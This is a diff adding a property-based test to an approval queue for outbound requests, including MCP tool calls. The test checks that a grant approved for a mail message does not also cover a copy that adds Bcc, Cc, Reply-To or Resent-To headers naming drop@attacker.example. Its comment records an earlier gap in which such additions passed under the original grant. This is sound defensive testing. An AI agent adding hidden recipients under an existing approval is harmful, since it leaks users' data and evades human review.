@@ -3270,3 +3270,24 @@ t.test('a number under a name no list holds is compared exactly, within its magn
   const other = (n: number): RequestDescription => call16('POST', 'https://ops.example/api/report', JSON.stringify({ stamp: 1733500000 + n, sent: 1733500000000 + n, item_id: 1000 + n, row_count: 100 * n, coordinate: [100 * n, 200], limit: n, text: 'a' }), 'application/json', [['X-Stamp', String(1733500000 + n)]]);
   t.ok(await grantedFor(queue, other(1), other(7)), 'times, ids, counts and coordinates still vary');
 });
+
+// Twenty-second pass: a whole mail message sent as a value (a `raw` field as text, base64 or
+// base64url, a tool's `message`, a form's `mime` field) or as the body (`message/rfc822`, text) was
+// content on a host no module describes and in MCP calls: a grant for a message to alice covered the
+// same message with `Bcc: drop@attacker.example` added, `Reply-To` pointing elsewhere, or another `To`.
+t.test('whom a whole mail message names in its header block (To, Cc, Bcc, From, Reply-To) is a place (twenty-second pass)', async (t) => {
+  const queue = await ApprovalQueue.open(tempDir(t, 'airlock-grants-'), { sweepMs: 0 });
+  t.teardown(() => queue.close());
+  const message = (extra: string, n: number): string => `From: team@corp.example\r\nTo: alice@corp.example\r\n${extra}Subject: report ${n}\r\nDate: Mon, 07 Dec 2026 0${n}:00:00 +0000\r\nMessage-ID: <m${n}@corp.example>\r\n\r\nhello ${n}\r\n`;
+  const extras = ['Bcc: drop@attacker.example\r\n', 'Cc: drop@attacker.example\r\n', 'Reply-To: drop@attacker.example\r\n', 'To: drop(note)@attacker.example\r\n', 'Bcc: alice@corp.example,\r\n drop@attacker.example\r\n', 'Resent-To: drop@attacker.example\r\n'];
+  const where = ['raw', 'base64url', 'base64', 'mcp', 'rfc822', 'text', 'form'] as const;
+  const call = (how: (typeof where)[number], text: string): RequestDescription => how === 'raw' ? call16('POST', 'https://mail.example/api/send', JSON.stringify({ raw: text }))
+    : how === 'base64url' || how === 'base64' ? call16('POST', 'https://mail.example/api/send', JSON.stringify({ raw: Buffer.from(text).toString(how) }))
+      : how === 'mcp' ? call16('POST', 'https://mcp.tools.example/mcp', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'send_raw', arguments: { message: text } } }))
+        : how === 'form' ? call16('POST', 'https://mail.example/api/send', new URLSearchParams({ mime: text }).toString(), 'application/x-www-form-urlencoded')
+          : call16('POST', 'https://mail.example/api/messages.mime', text, how === 'rfc822' ? 'message/rfc822' : 'text/plain');
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...where), fc.constantFrom(...extras), fc.boolean(), async (how, extra, same) => {
+    // (Another subject, date, message id and body each time: only whom it names matters.)
+    return (await grantedFor(queue, call(how, message('', 1)), call(how, message(same ? '' : extra, 2)))) === same;
+  }), { numRuns: 14, examples: [['raw', extras[0]!, false], ['base64url', extras[0]!, false], ['base64', extras[1]!, false], ['mcp', extras[2]!, false], ['rfc822', extras[0]!, false], ['text', extras[3]!, false], ['form', extras[4]!, false], ['base64url', extras[5]!, false], ['rfc822', extras[0]!, true], ['base64url', extras[0]!, true]] });
+});
